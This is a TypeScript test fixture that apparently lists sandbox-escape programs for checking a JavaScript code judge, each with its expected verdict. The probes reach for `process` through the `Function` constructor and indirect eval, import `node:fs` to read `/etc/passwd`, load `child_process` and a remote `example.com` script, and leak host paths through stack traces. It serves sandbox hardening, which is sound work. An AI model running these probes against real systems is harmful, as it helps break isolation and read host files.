import { type HostileProgram, NOTHING, WORK } from './program.ts';

/** Collects the names of whatever of the host an expression reaches. */
const hunt = (body: string) =>
  `const found = []; const note = (name, get) => { try { const value = get(); if (value !== undefined) found.push(name); } catch {} };\n${body}\nexport const loot = found;`;

const HOST_NAMES = `['process', 'require', 'module', 'Deno', 'Bun', 'fetch', 'XMLHttpRequest', 'WebSocket', 'Worker', 'WebAssembly', 'importScripts', 'self', 'window', 'Buffer', '__dirname', 'postMessage', 'std', 'os', 'bjson', 'scriptArgs', 'print', 'learnflowHost', 'learnflowJudge']`;

/** Ways to something native. */
export const escapes: readonly HostileProgram[] = [
  {
    id: 'host-names',
    tries: 'looks for `process`, `require`, `fetch` and other names of a host on the global object',
    code: hunt(`for (const name of ${HOST_NAMES}) note(name, () => globalThis[name]);`),
    spec: NOTHING,
    verdict: 'passed',
  },
  {
    id: 'constructor-chain',
    tries: "climbs from a function to `Function` and from there to the host's `process`",
    code: hunt(`
      const make = (text) => (() => {}).constructor(text)();
      for (const name of ${HOST_NAMES}) note(name, () => make('return typeof ' + name + ' === "undefined" ? undefined : ' + name));
      note('this', () => make('return this.process'));`),
    spec: NOTHING,
    verdict: 'passed',
  },
  {
    id: 'every-function-constructor',
    tries: 'makes functions with the constructors of async, generator and async generator functions',
    code: hunt(`
      for (const sample of [async () => {}, function* () {}, async function* () {}])
        note('process', () => { const made = sample.constructor('return globalThis.process')(); return made.next ? undefined : made.then ? undefined : made; });
      note('console', () => console.log.constructor.constructor('return process')());`),
    spec: NOTHING,
    verdict: 'passed',
  },
  {
    id: 'eval-indirect',
    tries: 'evaluates text in the global scope',
    code: hunt(`note('eval', () => (0, eval)('typeof process === "undefined" ? undefined : process'));`),
    spec: NOTHING,
    verdict: 'passed',
  },
  {
    id: 'import-node-fs',
    tries: "imports the host's file system",
    code: `import fs from 'node:fs';\nexport const loot = [fs.readFileSync('/etc/passwd', 'utf8')];`,
    spec: NOTHING,
    verdict: 'error',
  },
  {
    id: 'dynamic-import',
    tries: 'imports native modules, addresses and absolute paths while it runs',
    code: `const names = ['node:fs', 'fs', 'node:child_process', 'os', 'qjs:os', 'std', '/etc/passwd', 'file:///etc/passwd', 'https://example.com/x.js', 'data:text/javascript,export default 1', './../../../../etc/passwd', 'learnflow:judge', 'program:code.js', 'learnflow:host', 'learnflow:words/vitest'];
      export const loot = Promise.all(names.map((name) => import(name).then(() => [name], () => []))).then((all) => all.flat());`,
    spec: NOTHING,
    verdict: 'passed',
  },
  {
    id: 'import-from-eval',
    tries: 'imports from evaluated text, whose origin is nobody',
    code: `const names = ['node:fs', 'vitest', './code.spec.js', 'learnflow:judge'];
      export const loot = Promise.all(names.map((name) => (0, eval)('import(' + JSON.stringify(name) + ')').then(() => [name], () => []))).then((all) => all.flat());`,
    spec: NOTHING,
    verdict: 'passed',
  },
  {
    id: 'import-meta',
    tries: 'reads where it lies on the disk',
    code: hunt(`note('meta', () => import.meta.url && /\\/(work|home|tmp|usr|root)\\//.test(import.meta.url) ? import.meta.url : undefined);
      note('dirname', () => import.meta.dirname);`),
    spec: NOTHING,
    verdict: 'passed',
  },
  {
    id: 'stack-paths',
    tries: "reads the host's paths out of a stack, also of an error that the host makes",
    code: `const stacks = [new Error().stack];
      try { null.x; } catch (error) { stacks.push(error.stack); }
      export const loot = import('node:fs').catch((error) => { stacks.push(error.stack, error.message); }).then(() => stacks.filter((text) => /node_modules|file:\\/\\/|\\/adapters\\/|worker|node:internal/.test(String(text))));`,
    spec: NOTHING,
    verdict: 'passed',
  },
  {
    id: 'prepare-stack-trace',
    tries: 'takes the functions that call it out of `Error.prepareStackTrace`',
    code: hunt(`
      let sites = [];
      try { Error.prepareStackTrace = (error, all) => { sites = all; return ''; }; } catch {}
      note('sites', () => { new Error('x').stack; return sites.length ? sites : undefined; });
      try { Object.defineProperty(Error, 'prepareStackTrace', { value: (error, all) => { sites = all; } }); } catch {}
      note('defined', () => { try { null.x; } catch (error) { error.stack; } return sites.length ? sites : undefined; });
      note('captured', () => { const o = {}; Error.captureStackTrace(o); return typeof o.stack === 'string' || o.stack === undefined ? undefined : o.stack; });`),
    spec: NOTHING,
    verdict: 'passed',
  },
  {
    id: 'caller-and-arguments',
    tries: 'asks its function for its caller and the arguments of the caller',
    code: hunt(`
      function sloppy() { return sloppy.caller; }
      note('caller', () => sloppy());
      const loose = Function('return arguments.callee.caller');
      note('loose', () => loose() || undefined);
      note('arguments', () => Function('f', 'return f.arguments')(sloppy) || undefined);`),
    spec: NOTHING,
    verdict: 'passed',
  },
  {
    id: 'shared-memory',
    tries: 'blocks the thread on shared memory',
    code: `export const work = () => { const cell = new Int32Array(new SharedArrayBuffer(4)); if (typeof Atomics !== 'undefined') Atomics.wait(cell, 0, 0); return 'shared'; };`,
    spec: WORK,
    verdict: 'failed',
  },
  {
    id: 'weak-watch',
    tries: 'waits for the garbage collector with WeakRef and FinalizationRegistry',
    code: `const registry = new FinalizationRegistry(() => { globalThis.process?.exit(0); });
      export const work = async () => { for (let n = 0; n < 1000; n += 1) registry.register({}, n); return typeof new WeakRef({}).deref(); };`,
    spec: WORK,
    verdict: 'failed',
  },
  {
    id: 'path-tricks',
    tries: 'names its files like the judge and like places outside',
    code: `export const work = () => 'x';`,
    spec: WORK,
    files: { 'learnflow:judge': 'export const words = {};', '../outside.js': '' },
    verdict: 'error',
  },
];
